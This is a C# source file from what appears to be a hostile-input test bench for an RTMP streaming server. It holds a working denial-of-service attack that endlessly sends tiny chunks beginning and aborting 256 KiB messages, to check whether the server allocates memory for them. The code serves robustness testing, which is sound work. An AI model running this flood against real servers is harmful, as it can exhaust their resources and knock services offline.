using MssTools.Core.Inputs.Rtmp;

namespace MssTools.Bench.Hostile.Attacks;

/// <summary>Begins messages of 256 KiB with one byte and aborts them: 32 bytes must not make the server allocate 256 KiB.</summary>
internal sealed class AbortedMessages(Target target) : RtmpAttack(target)
{
    private const int Length = 256 * 1024;
    private const int Repeated = 500;

    private static readonly byte[] s_block = [.. Enumerable.Repeat(BeginAndAbort(), Repeated).SelectMany(b => b)];

    /// <inheritdoc/>
    public override string Name => "aborted RTMP messages";

    /// <inheritdoc/>
    public override async Task RunAsync(AttackSocket socket, Random random)
    {
        await ShakeHandsAsync(socket);
        var writer = new ChunkWriter();
        writer.SetChunkSize(1);
        await socket.SendAsync(writer.Written);
        while (true)
        {
            await socket.SendAsync(s_block);
            Tally.AddRequests(Repeated);
        }
    }

    // Type 9 on chunk stream 3 with one byte of it, and an abort of chunk stream 3 in chunks of one byte.
    private static byte[] BeginAndAbort()
    {
        return
        [
            3, 0, 0, 0, Length >> 16, Length >> 8 & 0xFF, Length & 0xFF, 9, 0, 0, 0, 0, (byte)'x',
            2, 0, 0, 0, 0, 0, 4, 2, 0, 0, 0, 0, 0, 0xC2, 0, 0xC2, 0, 0xC2, 3,
        ];
    }
}
